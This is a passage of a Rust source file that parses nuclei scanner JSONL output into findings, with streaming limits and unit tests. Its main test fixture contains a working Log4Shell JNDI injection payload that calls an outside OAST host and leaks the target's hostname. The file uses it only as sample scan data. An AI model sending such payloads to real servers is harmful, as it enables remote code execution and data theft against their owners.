//! Parser for nuclei v3 `-jsonl` output: one JSON result event per line.
//!
//! [`parse_line`] turns one line into a [`Finding`]; [`read_findings`] streams a
//! whole output (nuclei's stdout) line by line with a hard cap per line, so
//! neither a long scan nor one pathological line can exhaust memory, and a bad
//! line is counted and reported instead of failing the scan.
//!
//! The result schema follows nuclei's `output.ResultEvent`: `template-id`,
//! `info{name, severity, description, tags, reference, classification{cve-id,
//! cwe-id, cvss-score}}`, `type`, `host`, `matched-at`, `matcher-name`,
//! `extracted-results`, `timestamp`, `matcher-status`. Everything else
//! (`request`, `response`, `curl-command`, `template-encoded`, `meta`, …) is
//! skipped by the JSON scanner without being copied.
//!
//! Tolerance: every field may be missing; `tags`, `author`, `reference`,
//! `cve-id`, `cwe-id` and `extracted-results` may be a string, an array or
//! null; an unknown or missing severity becomes [`Severity::Unknown`]; CVE and
//! CWE ids are upper-cased; a `cvss-score` given as a string is read as a
//! number; an unreadable `timestamp` is dropped rather than failing the line.
//!
//! Non-UTF-8 input is decoded lossily (invalid bytes become U+FFFD) and the
//! line still parses: such bytes almost always sit in a raw `response` we skip
//! anyway, and losing a finding over them would be worse. They are counted in
//! [`ParseStats::non_utf8`].

use std::borrow::Cow;
use std::fmt;

use k8s_openapi::apimachinery::pkg::apis::meta::v1::Time;
use k8s_openapi::jiff::Timestamp;
use serde::Deserialize;
use serde::de::{self, IgnoredAny, SeqAccess, Visitor};
use tokio::io::{AsyncBufReadExt, AsyncRead, BufReader};

use crate::api::{Finding, Severity};

/// Longest line [`read_findings`] parses by default: 1 MiB.
pub const DEFAULT_MAX_LINE_BYTES: usize = 1024 * 1024;

/// How many error messages [`ParseStats::first_errors`] keeps by default.
pub const DEFAULT_MAX_ERRORS: usize = 5;

/// Limits for [`read_findings_with`].
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ReadLimits {
    /// Longest line, in bytes without its line ending, that is parsed; a longer
    /// one is skipped and counted in [`ParseStats::oversized`].
    pub max_line_bytes: usize,
    /// How many error messages to keep in [`ParseStats::first_errors`].
    pub max_errors: usize,
}

impl Default for ReadLimits {
    fn default() -> Self {
        Self {
            max_line_bytes: DEFAULT_MAX_LINE_BYTES,
            max_errors: DEFAULT_MAX_ERRORS,
        }
    }
}

/// What [`read_findings`] saw in a stream.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct ParseStats {
    /// Lines read, blank ones included.
    pub lines: u64,
    /// Lines that became a [`Finding`] handed to the sink.
    pub findings: u64,
    /// Lines that were not a nuclei result: invalid JSON, not an object, or no
    /// `template-id`.
    pub malformed: u64,
    /// Lines longer than [`ReadLimits::max_line_bytes`], skipped unread.
    pub oversized: u64,
    /// Result events with `"matcher-status": false` (only emitted with
    /// nuclei's `-matcher-status`): a template that ran but did not match.
    pub unmatched: u64,
    /// Lines that were not valid UTF-8 and were decoded lossily.
    pub non_utf8: u64,
    /// The first few problems, as `line N: …`, for logs and `status.lastError`.
    pub first_errors: Vec<String>,
    /// The read error that ended the stream early, if any. Everything before
    /// it was parsed and handed to the sink.
    pub io_error: Option<String>,
}

impl ParseStats {
    fn note_error(&mut self, max: usize, line: u64, message: impl fmt::Display) {
        if self.first_errors.len() < max {
            self.first_errors.push(format!("line {line}: {message}"));
        }
    }
}

/// Why a line is not a finding.
#[derive(Debug, thiserror::Error)]
pub enum LineError {
    /// The line is not a JSON object of the expected shape.
    #[error("invalid JSON: {0}")]
    Json(#[from] serde_json::Error),
    /// The object has no (or an empty) `template-id`, so it is not a result.
    #[error("not a nuclei result: no template-id")]
    MissingTemplateId,
}

/// Parses one line of nuclei `-jsonl` output.
///
/// Returns `Ok(None)` for a result event that did not match
/// (`"matcher-status": false`). Leading and trailing white space, a trailing
/// `\r` included, is ignored.
pub fn parse_line(line: &str) -> Result<Option<Finding>, LineError> {
    let raw: RawResult<'_> = serde_json::from_str(line)?;
    raw.into_finding()
}

/// Reads nuclei `-jsonl` output to its end with the default [`ReadLimits`],
/// handing each finding to `sink` as soon as its line is parsed.
pub async fn read_findings<R: AsyncRead + Unpin>(
    reader: R,
    sink: impl FnMut(Finding),
) -> ParseStats {
    read_findings_with(reader, &ReadLimits::default(), sink).await
}

/// [`read_findings`] with explicit limits.
///
/// Memory is bounded by `limits.max_line_bytes` plus the read buffer: the
/// output is never buffered whole, and a line over the cap is discarded chunk
/// by chunk up to its newline rather than collected. Malformed and oversized
/// lines are counted and the stream goes on; a read error ends the stream and
/// is recorded in [`ParseStats::io_error`].
pub async fn read_findings_with<R: AsyncRead + Unpin>(
    reader: R,
    limits: &ReadLimits,
    mut sink: impl FnMut(Finding),
) -> ParseStats {
    let mut reader = BufReader::with_capacity(64 * 1024, reader);
    let mut stats = ParseStats::default();
    let mut line: Vec<u8> = Vec::with_capacity(16 * 1024);
    // True while skipping the rest of an oversized line.
    let mut discarding = false;

    loop {
        let (used, complete) = {
            let chunk = match reader.fill_buf().await {
                Ok(chunk) => chunk,
                Err(e) if e.kind() == std::io::ErrorKind::Interrupted => continue,
                Err(e) => {
                    stats.io_error = Some(e.to_string());
                    break;
                }
            };
            if chunk.is_empty() {
                // End of stream: an unterminated last line is still a line
                // (nuclei killed mid-write leaves one; it will be malformed).
                if !discarding && !line.is_empty() {
                    stats.lines += 1;
                    handle_line(&line, stats.lines, limits, &mut stats, &mut sink);
                }
                break;
            }
            let newline = chunk.iter().position(|&b| b == b'\n');
            let body = &chunk[..newline.unwrap_or(chunk.len())];
            if !discarding {
                if line.len() + body.len() > limits.max_line_bytes {
                    discarding = true;
                    line.clear();
                    stats.lines += 1;
                    stats.oversized += 1;
                    let n = stats.lines;
                    stats.note_error(
                        limits.max_errors,
                        n,
                        format_args!("longer than {} bytes, skipped", limits.max_line_bytes),
                    );
                } else {
                    line.extend_from_slice(body);
                }
            }
            match newline {
                Some(i) => (i + 1, true),
                None => (chunk.len(), false),
            }
        };
        reader.consume(used);
        if complete {
            if discarding {
                discarding = false;
            } else {
                stats.lines += 1;
                handle_line(&line, stats.lines, limits, &mut stats, &mut sink);
            }
            line.clear();
        }
    }
    stats
}

fn handle_line(
    bytes: &[u8],
    number: u64,
    limits: &ReadLimits,
    stats: &mut ParseStats,
    sink: &mut impl FnMut(Finding),
) {
    let text = match std::str::from_utf8(bytes) {
        Ok(text) => Cow::Borrowed(text),
        Err(_) => {
            stats.non_utf8 += 1;
            String::from_utf8_lossy(bytes)
        }
    };
    if text.trim().is_empty() {
        return;
    }
    match parse_line(&text) {
        Ok(Some(finding)) => {
            stats.findings += 1;
            sink(finding);
        }
        Ok(None) => stats.unmatched += 1,
        Err(e) => {
            stats.malformed += 1;
            stats.note_error(limits.max_errors, number, e);
        }
    }
}

// The subset of nuclei's ResultEvent we keep. Strings borrow from the line
// when they need no unescaping. Fields not named here — `request`,
// `response`, `curl-command`, `template-encoded`, `meta`, `interaction`, … —
// are passed over by serde_json's `IgnoredAny` path, which scans a string
// without allocating it, so a multi-megabyte response costs a scan, not a copy.
// (No `#[serde(flatten)]` here: it would buffer every unknown field.)
#[derive(Deserialize)]
struct RawResult<'a> {
    #[serde(rename = "template-id", default, borrow)]
    template_id: Text<'a>,
    #[serde(default, borrow)]
    info: Option<RawInfo<'a>>,
    #[serde(rename = "type", default, borrow)]
    kind: Text<'a>,
    #[serde(default, borrow)]
    host: Text<'a>,
    #[serde(rename = "matched-at", default, borrow)]
    matched_at: Text<'a>,
    #[serde(rename = "matcher-name", default, borrow)]
    matcher_name: Text<'a>,
    #[serde(rename = "extracted-results", default)]
    extracted_results: Strings,
    #[serde(default, borrow)]
    timestamp: Text<'a>,
    #[serde(rename = "matcher-status", default)]
    matcher_status: Option<bool>,
    // Named only to document that they are skipped, never held.
    #[serde(default)]
    #[allow(dead_code)]
    request: Option<IgnoredAny>,
    #[serde(default)]
    #[allow(dead_code)]
    response: Option<IgnoredAny>,
}

#[derive(Deserialize, Default)]
struct RawInfo<'a> {
    #[serde(default, borrow)]
    name: Text<'a>,
    #[serde(default, borrow)]
    severity: Text<'a>,
    #[serde(default, borrow)]
    description: Text<'a>,
    #[serde(default)]
    tags: Strings,
    #[serde(default)]
    reference: Strings,
    #[serde(default)]
    classification: Option<RawClassification>,
}

#[derive(Deserialize, Default)]
struct RawClassification {
    #[serde(rename = "cve-id", default)]
    cve_id: Strings,
    #[serde(rename = "cwe-id", default)]
    cwe_id: Strings,
    #[serde(rename = "cvss-score", default)]
    cvss_score: Option<Score>,
}

impl RawResult<'_> {
    fn into_finding(self) -> Result<Option<Finding>, LineError> {
        let template_id = self.template_id.into_string();
        if template_id.is_empty() {
            return Err(LineError::MissingTemplateId);
        }
        if self.matcher_status == Some(false) {
            return Ok(None);
        }
        let info = self.info.unwrap_or_default();
        let classification = info.classification.unwrap_or_default();
        let severity = info.severity.0.parse().unwrap_or(Severity::Unknown);
        let mut finding = Finding {
            template_id,
            template_name: info.name.into_string(),
            severity: Some(severity),
            kind: self.kind.into_string(),
            host: self.host.into_string(),
            matched_at: self.matched_at.into_string(),
            matcher_name: self.matcher_name.into_string(),
            extracted_results: self.extracted_results.0,
            description: info.description.into_string(),
            reference: info.reference.trimmed(),
            tags: info.tags.split_commas(),
            cve_ids: upper(classification.cve_id.split_commas()),
            cwe_ids: upper(classification.cwe_id.split_commas()),
            cvss_score: classification.cvss_score.and_then(|s| s.0),
            timestamp: self.timestamp.0.trim().parse::<Timestamp>().ok().map(Time),
            fingerprint: String::new(),
            first_seen: None,
            suppressed_by: String::new(),
        };
        finding.fingerprint = super::history::fingerprint(&finding);
        Ok(Some(finding))
    }
}

// A scalar as text: borrowed from the line when it needs no unescaping; null
// or a missing field is empty; a number or bool is its JSON text.
#[derive(Default)]
struct Text<'a>(Cow<'a, str>);

impl Text<'_> {
    fn into_string(self) -> String {
        match self.0 {
            Cow::Owned(s) if s.trim().len() == s.len() => s,
            other => other.trim().to_owned(),
        }
    }
}

impl<'de: 'a, 'a> Deserialize<'de> for Text<'a> {
    fn deserialize<D: de::Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        struct V<'a>(std::marker::PhantomData<&'a ()>);
        impl<'de: 'a, 'a> Visitor<'de> for V<'a> {
            type Value = Text<'a>;
            fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
                f.write_str("a string")
            }
            fn visit_borrowed_str<E: de::Error>(self, v: &'de str) -> Result<Text<'a>, E> {
                Ok(Text(Cow::Borrowed(v)))
            }
            fn visit_str<E: de::Error>(self, v: &str) -> Result<Text<'a>, E> {
                Ok(Text(Cow::Owned(v.to_owned())))
            }
            fn visit_string<E: de::Error>(self, v: String) -> Result<Text<'a>, E> {
                Ok(Text(Cow::Owned(v)))
            }
            fn visit_i64<E: de::Error>(self, v: i64) -> Result<Text<'a>, E> {
                Ok(Text(Cow::Owned(v.to_string())))
            }
            fn visit_u64<E: de::Error>(self, v: u64) -> Result<Text<'a>, E> {
                Ok(Text(Cow::Owned(v.to_string())))
            }
            fn visit_f64<E: de::Error>(self, v: f64) -> Result<Text<'a>, E> {
                Ok(Text(Cow::Owned(v.to_string())))
            }
            fn visit_bool<E: de::Error>(self, v: bool) -> Result<Text<'a>, E> {
                Ok(Text(Cow::Owned(v.to_string())))
            }
            fn visit_unit<E: de::Error>(self) -> Result<Text<'a>, E> {
                Ok(Text::default())
            }
            fn visit_none<E: de::Error>(self) -> Result<Text<'a>, E> {
                Ok(Text::default())
            }
            fn visit_some<D: de::Deserializer<'de>>(self, d: D) -> Result<Text<'a>, D::Error> {
                Text::deserialize(d)
            }
        }
        d.deserialize_any(V(std::marker::PhantomData))
    }
}

fn upper(mut ids: Vec<String>) -> Vec<String> {
    for id in &mut ids {
        id.make_ascii_uppercase();
    }
    ids
}

// A string, an array of scalars, or null, as nuclei's StringSlice marshals.
#[derive(Default)]
struct Strings(Vec<String>);

impl Strings {
    // For comma-joined lists (`tags: "a,b"`, `cve-id: "CVE-1,CVE-2"`).
    fn split_commas(self) -> Vec<String> {
        self.0
            .iter()
            .flat_map(|s| s.split(','))
            .map(str::trim)
            .filter(|s| !s.is_empty())
            .map(str::to_owned)
            .collect()
    }

    // For URLs, which may themselves contain commas.
    fn trimmed(self) -> Vec<String> {
        self.0
            .into_iter()
            .map(|s| s.trim().to_owned())
            .filter(|s| !s.is_empty())
            .collect()
    }
}

impl<'de> Deserialize<'de> for Strings {
    fn deserialize<D: de::Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        struct V;
        impl<'de> Visitor<'de> for V {
            type Value = Strings;
            fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
                f.write_str("a string, an array of strings or null")
            }
            fn visit_str<E: de::Error>(self, v: &str) -> Result<Strings, E> {
                Ok(Strings(vec![v.to_owned()]))
            }
            fn visit_string<E: de::Error>(self, v: String) -> Result<Strings, E> {
                Ok(Strings(vec![v]))
            }
            fn visit_i64<E: de::Error>(self, v: i64) -> Result<Strings, E> {
                Ok(Strings(vec![v.to_string()]))
            }
            fn visit_u64<E: de::Error>(self, v: u64) -> Result<Strings, E> {
                Ok(Strings(vec![v.to_string()]))
            }
            fn visit_f64<E: de::Error>(self, v: f64) -> Result<Strings, E> {
                Ok(Strings(vec![v.to_string()]))
            }
            fn visit_bool<E: de::Error>(self, v: bool) -> Result<Strings, E> {
                Ok(Strings(vec![v.to_string()]))
            }
            fn visit_unit<E: de::Error>(self) -> Result<Strings, E> {
                Ok(Strings(Vec::new()))
            }
            fn visit_none<E: de::Error>(self) -> Result<Strings, E> {
                Ok(Strings(Vec::new()))
            }
            fn visit_seq<A: SeqAccess<'de>>(self, mut seq: A) -> Result<Strings, A::Error> {
                let mut out = Vec::with_capacity(seq.size_hint().unwrap_or(0).min(64));
                while let Some(item) = seq.next_element::<Scalar>()? {
                    if let Some(s) = item.0 {
                        out.push(s);
                    }
                }
                Ok(Strings(out))
            }
            fn visit_map<A: de::MapAccess<'de>>(self, mut map: A) -> Result<Strings, A::Error> {
                while map.next_entry::<IgnoredAny, IgnoredAny>()?.is_some() {}
                Ok(Strings(Vec::new()))
            }
        }
        d.deserialize_any(V)
    }
}

// One array item: a scalar as text; null and nested arrays/objects are dropped.
struct Scalar(Option<String>);

impl<'de> Deserialize<'de> for Scalar {
    fn deserialize<D: de::Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        struct V;
        impl<'de> Visitor<'de> for V {
            type Value = Scalar;
            fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
                f.write_str("a string")
            }
            fn visit_str<E: de::Error>(self, v: &str) -> Result<Scalar, E> {
                Ok(Scalar(Some(v.to_owned())))
            }
            fn visit_string<E: de::Error>(self, v: String) -> Result<Scalar, E> {
                Ok(Scalar(Some(v)))
            }
            fn visit_i64<E: de::Error>(self, v: i64) -> Result<Scalar, E> {
                Ok(Scalar(Some(v.to_string())))
            }
            fn visit_u64<E: de::Error>(self, v: u64) -> Result<Scalar, E> {
                Ok(Scalar(Some(v.to_string())))
            }
            fn visit_f64<E: de::Error>(self, v: f64) -> Result<Scalar, E> {
                Ok(Scalar(Some(v.to_string())))
            }
            fn visit_bool<E: de::Error>(self, v: bool) -> Result<Scalar, E> {
                Ok(Scalar(Some(v.to_string())))
            }
            fn visit_unit<E: de::Error>(self) -> Result<Scalar, E> {
                Ok(Scalar(None))
            }
            fn visit_none<E: de::Error>(self) -> Result<Scalar, E> {
                Ok(Scalar(None))
            }
            fn visit_seq<A: SeqAccess<'de>>(self, mut seq: A) -> Result<Scalar, A::Error> {
                while seq.next_element::<IgnoredAny>()?.is_some() {}
                Ok(Scalar(None))
            }
            fn visit_map<A: de::MapAccess<'de>>(self, mut map: A) -> Result<Scalar, A::Error> {
                while map.next_entry::<IgnoredAny, IgnoredAny>()?.is_some() {}
                Ok(Scalar(None))
            }
        }
        d.deserialize_any(V)
    }
}

// A CVSS score as a number or a numeric string; anything else is no score.
struct Score(Option<f64>);

impl<'de> Deserialize<'de> for Score {
    fn deserialize<D: de::Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        let value = Scalar::deserialize(d)?;
        Ok(Score(
            value
                .0
                .and_then(|s| s.trim().parse::<f64>().ok())
                .filter(|v| v.is_finite()),
        ))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const FULL: &str = r#"{"template":"http/cves/2021/CVE-2021-44228.yaml","template-url":"https://cloud.projectdiscovery.io/public/CVE-2021-44228","template-id":"CVE-2021-44228","template-path":"/home/nuclei/nuclei-templates/http/cves/2021/CVE-2021-44228.yaml","info":{"name":"Apache Log4j2 Remote Code Injection","author":["melbadry9","dhiyaneshDK","daffainfo","anon-artist","0xceba","Tea","j4vaovo"],"tags":["cve","cve2021","rce","oast","log4j","injection","kev"],"description":"Apache Log4j2 <=2.14.1 JNDI features used in configuration, log messages, and parameters do not protect against attacker controlled LDAP and other JNDI related endpoints.\n","impact":"Remote code execution.","reference":["https://logging.apache.org/log4j/2.x/security.html","https://www.lunasec.io/docs/blog/log4j-zero-day/"],"severity":"critical","metadata":{"max-request":1,"vendor":"apache","product":"log4j","verified":true},"classification":{"cve-id":["cve-2021-44228"],"cwe-id":["cwe-20","cwe-917"],"cvss-metrics":"CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H","cvss-score":10,"epss-score":0.97453,"epss-percentile":0.99989,"cpe":"cpe:2.3:a:apache:log4j:*:*:*:*:*:*:*:*"},"remediation":"Upgrade to Log4j 2.3.1, 2.12.3, 2.15.0 or later."},"matcher-name":"header","extractor-name":"version","type":"http","host":"https://app.example.com","port":"443","scheme":"https","url":"https://app.example.com","path":"/","matched-at":"https://app.example.com/?x=${jndi:ldap://${:-123}${:-456}.${hostName}.uri.oast.pro/a}","extracted-results":["11.0.2","app-7d9f"],"request":"GET /?x=${jndi:ldap://x} HTTP/1.1\r\nHost: app.example.com\r\n\r\n","response":"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html>hi</html>","meta":{"user":"admin"},"ip":"10.0.0.7","timestamp":"2025-08-23T14:33:41.123456789+00:00","curl-command":"curl -X 'GET' -d '' -H 'Host: app.example.com' 'https://app.example.com/'","matcher-status":true}"#;

    fn one(line: &str) -> Finding {
        parse_line(line)
            .expect("parses")
            .expect("is a matched finding")
    }

    async fn read_all(input: &[u8], limits: &ReadLimits) -> (Vec<Finding>, ParseStats) {
        let mut out = Vec::new();
        let stats = read_findings_with(input, limits, |f| out.push(f)).await;
        (out, stats)
    }

    fn block_on<F: std::future::Future>(f: F) -> F::Output {
        tokio::runtime::Builder::new_current_thread()
            .build()
            .unwrap()
            .block_on(f)
    }

    // Captured from nuclei v3.10.0 (`-jsonl -silent -nc -or -ot -duc -ms`)
    // scanning a local page with two templates that match and one that does
    // not; only paths and user agents shortened.
    const CAPTURED: [&str; 3] = [
        r#"{"template-id":"local-plain","template-path":"/work/tpl/plain.yaml","info":{"name":"Plain","author":["tester"],"tags":null,"severity":"info"},"type":"http","host":"127.0.0.1","port":"18777","scheme":"http","url":"http://127.0.0.1:18777","matched-at":"http://127.0.0.1:18777/","ip":"127.0.0.1","timestamp":"2026-11-27T11:17:14.355695254Z","curl-command":"curl -X 'GET' -d '' -H 'Accept: */*' -H 'Accept-Language: en' -H 'User-Agent: Mozilla/5.0' 'http://127.0.0.1:18777/'","matcher-status":true}"#,
        r#"{"template-id":"local-probe","template-path":"/work/tpl/probe.yaml","info":{"name":"Local probe with classification","author":["tester","other"],"tags":["test","local"],"description":"Checks a local page.\n","reference":["https://example.com/a"],"severity":"high","classification":{"cve-id":["cve-2024-0001"],"cwe-id":["cwe-200","cwe-79"],"cvss-metrics":"CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N","cvss-score":7.5}},"matcher-name":"hello-title","type":"http","host":"127.0.0.1","port":"18777","scheme":"http","url":"http://127.0.0.1:18777","matched-at":"http://127.0.0.1:18777/index.html","extracted-results":["1.2.3"],"ip":"127.0.0.1","timestamp":"2026-11-27T11:17:14.355592782Z","curl-command":"curl -X 'GET' -d '' -H 'Accept: */*' -H 'Accept-Language: en' -H 'User-Agent: Mozilla/5.0' 'http://127.0.0.1:18777/index.html'","matcher-status":true}"#,
        r#"{"template-id":"local-miss","template-path":"/work/tpl2/miss.yaml","info":{"name":"Plain","author":["tester"],"tags":null,"severity":"info"},"type":"http","host":"127.0.0.1","port":"18777","scheme":"http","url":"http://127.0.0.1:18777","ip":"127.0.0.1","timestamp":"2026-11-27T11:17:25.990228512Z","matcher-status":false}"#,
    ];

    #[test]
    fn real_nuclei_v3_10_output_parses() {
        let plain = one(CAPTURED[0]);
        assert_eq!(plain.template_id, "local-plain");
        assert_eq!(plain.severity, Some(Severity::Info));
        assert!(plain.tags.is_empty(), "tags: null");
        assert_eq!(plain.host, "127.0.0.1");
        assert_eq!(plain.matched_at, "http://127.0.0.1:18777/");

        let probe = one(CAPTURED[1]);
        assert_eq!(probe.severity, Some(Severity::High));
        assert_eq!(probe.matcher_name, "hello-title");
        assert_eq!(probe.extracted_results, ["1.2.3"]);
        assert_eq!(probe.description, "Checks a local page.");
        assert_eq!(probe.tags, ["test", "local"]);
        assert_eq!(probe.cve_ids, ["CVE-2024-0001"]);
        assert_eq!(probe.cwe_ids, ["CWE-200", "CWE-79"]);
        assert_eq!(probe.cvss_score, Some(7.5));
        assert_eq!(probe.timestamp.unwrap().0.subsec_nanosecond(), 355_592_782);

        assert!(
            parse_line(CAPTURED[2]).unwrap().is_none(),
            "matcher-status false"
        );
    }

    #[test]
    fn a_full_nuclei_v3_result_becomes_a_complete_finding() {
        let f = one(FULL);
        assert_eq!(f.template_id, "CVE-2021-44228");
        assert_eq!(f.template_name, "Apache Log4j2 Remote Code Injection");
        assert_eq!(f.severity, Some(Severity::Critical));
        assert_eq!(f.kind, "http");
        assert_eq!(f.host, "https://app.example.com");
        assert!(
            f.matched_at
                .starts_with("https://app.example.com/?x=${jndi:")
        );
        assert_eq!(f.matcher_name, "header");
        assert_eq!(f.extracted_results, ["11.0.2", "app-7d9f"]);
        assert!(f.description.starts_with("Apache Log4j2 <=2.14.1"));
        assert!(!f.description.ends_with('\n'), "description is trimmed");
        assert_eq!(f.reference.len(), 2);
        assert_eq!(
            f.tags,
            ["cve", "cve2021", "rce", "oast", "log4j", "injection", "kev"]
        );
        assert_eq!(f.cve_ids, ["CVE-2021-44228"]);
        assert_eq!(f.cwe_ids, ["CWE-20", "CWE-917"]);
        assert_eq!(f.cvss_score, Some(10.0));
        let ts = f.timestamp.expect("timestamp").0;
        assert_eq!(ts.as_second(), 1_755_959_621);
        assert_eq!(ts.subsec_nanosecond(), 123_456_789);
    }

    #[test]
    fn string_and_array_forms_of_list_fields_give_the_same_finding() {
        let as_strings = r#"{"template-id":"t","info":{"name":"n","author":"pdteam","tags":"tech, nginx,,","reference":"https://a.example/x,y","severity":"info","classification":{"cve-id":"cve-2020-1,CVE-2020-2","cwe-id":"cwe-200"}},"type":"http","host":"h","extracted-results":"only-one"}"#;
        let as_arrays = r#"{"template-id":"t","info":{"name":"n","author":["pdteam"],"tags":["tech","nginx"],"reference":["https://a.example/x,y"],"severity":"info","classification":{"cve-id":["CVE-2020-1","cve-2020-2"],"cwe-id":["CWE-200"]}},"type":"http","host":"h","extracted-results":["only-one"]}"#;
        let a = one(as_strings);
        assert_eq!(a, one(as_arrays));
        assert_eq!(a.tags, ["tech", "nginx"]);
        assert_eq!(a.reference, ["https://a.example/x,y"], "URLs are not split");
        assert_eq!(a.cve_ids, ["CVE-2020-1", "CVE-2020-2"]);
        assert_eq!(a.cwe_ids, ["CWE-200"]);
        assert_eq!(a.extracted_results, ["only-one"]);
    }

    #[test]
    fn classification_nulls_and_a_string_score_are_tolerated() {
        let f = one(
            r#"{"template-id":"t","info":{"severity":"high","classification":{"cve-id":null,"cwe-id":["cwe-79",null],"cvss-metrics":"","cvss-score":"7.5"}},"host":"h"}"#,
        );
        assert!(f.cve_ids.is_empty());
        assert_eq!(f.cwe_ids, ["CWE-79"]);
        assert_eq!(f.cvss_score, Some(7.5));
        let g = one(r#"{"template-id":"t","info":{"classification":{"cvss-score":"n/a"}}}"#);
        assert_eq!(g.cvss_score, None);
    }

    #[test]
    fn the_matcher_name_and_extracted_results_are_kept_verbatim() {
        let f = one(
            r#"{"template-id":"tech-detect","info":{"name":"Wappalyzer Technology Detection","severity":"info"},"matcher-name":"nginx","type":"http","host":"https://h","matched-at":"https://h/","extracted-results":["  spaced  ",42,true,["nested"]]}"#,
        );
        assert_eq!(f.matcher_name, "nginx");
        assert_eq!(f.extracted_results, ["  spaced  ", "42", "true"]);
    }

    #[test]
    fn go_style_escapes_are_decoded() {
        let f = one(
            r#"{"template-id":"t","host":"https://h","matched-at":"https://h/?a=1\u0026b=\u003cx\u003e","info":{"name":"Tab\there"}}"#,
        );
        assert_eq!(f.matched_at, "https://h/?a=1&b=<x>");
        assert_eq!(f.template_name, "Tab\there");
    }

    #[test]
    fn a_null_reference_gives_no_references() {
        let f = one(r#"{"template-id":"t","info":{"name":"n","reference":null,"severity":"low"}}"#);
        assert!(f.reference.is_empty());
        assert_eq!(f.severity, Some(Severity::Low));
    }

    #[test]
    fn a_result_without_info_still_becomes_a_finding_of_unknown_severity() {
        let f = one(
            r#"{"template-id":"custom-check","type":"dns","host":"example.com","timestamp":"2025-08-23T14:33:41Z"}"#,
        );
        assert_eq!(f.template_id, "custom-check");
        assert_eq!(f.severity, Some(Severity::Unknown));
        assert!(f.template_name.is_empty() && f.tags.is_empty() && f.cve_ids.is_empty());
        assert!(f.timestamp.is_some());
    }

    #[test]
    fn an_unknown_severity_and_a_bad_timestamp_do_not_reject_the_line() {
        let f = one(r#"{"template-id":"t","info":{"severity":"SEVERE"},"timestamp":"yesterday"}"#);
        assert_eq!(f.severity, Some(Severity::Unknown));
        assert_eq!(f.timestamp, None);
        let g = one(r#"{"template-id":"t","info":{"severity":" HIGH "}}"#);
        assert_eq!(g.severity, Some(Severity::High));
    }

    #[test]
    fn a_non_matching_event_is_not_a_finding() {
        let line = r#"{"template-id":"t","info":{"severity":"high"},"host":"h","matcher-status":false,"error":"no match"}"#;
        assert!(parse_line(line).unwrap().is_none());
    }

    #[test]
    fn malformed_json_and_objects_without_a_template_id_are_errors() {
        assert!(matches!(parse_line("{not json"), Err(LineError::Json(_))));
        assert!(matches!(parse_line("[1,2]"), Err(LineError::Json(_))));
        assert!(matches!(
            parse_line(r#"{"template-id":["a"]}"#),
            Err(LineError::Json(_))
        ));
        assert!(matches!(
            parse_line(r#"{"template-id":"t","info":"x"}"#),
            Err(LineError::Json(_))
        ));
        assert!(matches!(
            parse_line(r#"{"host":"h","info":{"severity":"high"}}"#),
            Err(LineError::MissingTemplateId)
        ));
        assert!(matches!(
            parse_line(r#"{"template-id":"  "}"#),
            Err(LineError::MissingTemplateId)
        ));
    }

    #[test]
    fn a_truncated_line_is_malformed() {
        let cut = &FULL[..FULL.len() / 2];
        assert!(matches!(parse_line(cut), Err(LineError::Json(_))));
    }

    #[test]
    fn huge_request_and_response_fields_are_skipped() {
        let big = "A".repeat(300_000);
        let line = format!(
            r#"{{"template-id":"t","request":"{big}","response":"{big}\u0000\"esc\"","info":{{"severity":"medium"}},"meta":{{"k":["{big}"]}}}}"#
        );
        let f = one(&line);
        assert_eq!(f.severity, Some(Severity::Medium));
        assert!(serde_json::to_string(&f).unwrap().len() < 200);
    }

    #[test]
    fn a_stream_yields_every_finding_and_counts_bad_lines() {
        let input = format!(
            "{FULL}\n\n   \n{{broken\n{}\n{}",
            r#"{"template-id":"a","info":{"severity":"low"},"matcher-status":false}"#,
            r#"{"template-id":"last-without-newline","info":{"severity":"info"}}"#
        );
        let (found, stats) = block_on(read_all(input.as_bytes(), &ReadLimits::default()));
        let ids: Vec<_> = found.iter().map(|f| f.template_id.as_str()).collect();
        assert_eq!(ids, ["CVE-2021-44228", "last-without-newline"]);
        assert_eq!(stats.lines, 6);
        assert_eq!(stats.findings, 2);
        assert_eq!(stats.malformed, 1);
        assert_eq!(stats.unmatched, 1);
        assert_eq!(stats.oversized, 0);
        assert_eq!(stats.first_errors.len(), 1);
        assert!(
            stats.first_errors[0].starts_with("line 4: invalid JSON"),
            "{:?}",
            stats.first_errors
        );
        assert_eq!(stats.io_error, None);
    }

    #[test]
    fn a_line_over_one_mebibyte_in_the_middle_is_skipped_and_its_neighbours_parse() {
        let before = r#"{"template-id":"before","info":{"severity":"high"}}"#;
        let after = r#"{"template-id":"after","info":{"severity":"low"}}"#;
        let huge = format!(
            r#"{{"template-id":"huge","response":"{}"}}"#,
            "x".repeat(3 * DEFAULT_MAX_LINE_BYTES)
        );
        let input = format!("{before}\n{huge}\n{after}\n");
        let (found, stats) = block_on(read_all(input.as_bytes(), &ReadLimits::default()));
        let ids: Vec<_> = found.iter().map(|f| f.template_id.as_str()).collect();
        assert_eq!(ids, ["before", "after"]);
        assert_eq!(stats.lines, 3);
        assert_eq!(stats.oversized, 1);
        assert_eq!(stats.malformed, 0);
        assert_eq!(
            stats.first_errors,
            [format!(
                "line 2: longer than {DEFAULT_MAX_LINE_BYTES} bytes, skipped"
            )]
        );
    }

    #[test]
    fn the_line_cap_is_configurable_and_exact() {
        let line = r#"{"template-id":"t"}"#; // 19 bytes
        let input = format!("{line}\r\n{line}\n");
        let exact = ReadLimits {
            max_line_bytes: line.len() + 1, // the \r counts
            ..ReadLimits::default()
        };
        let (found, stats) = block_on(read_all(input.as_bytes(), &exact));
        assert_eq!((found.len(), stats.oversized), (2, 0));
        let tight = ReadLimits {
            max_line_bytes: line.len(),
            ..ReadLimits::default()
        };
        let (found, stats) = block_on(read_all(input.as_bytes(), &tight));
        assert_eq!((found.len(), stats.oversized), (1, 1));
    }

    #[test]
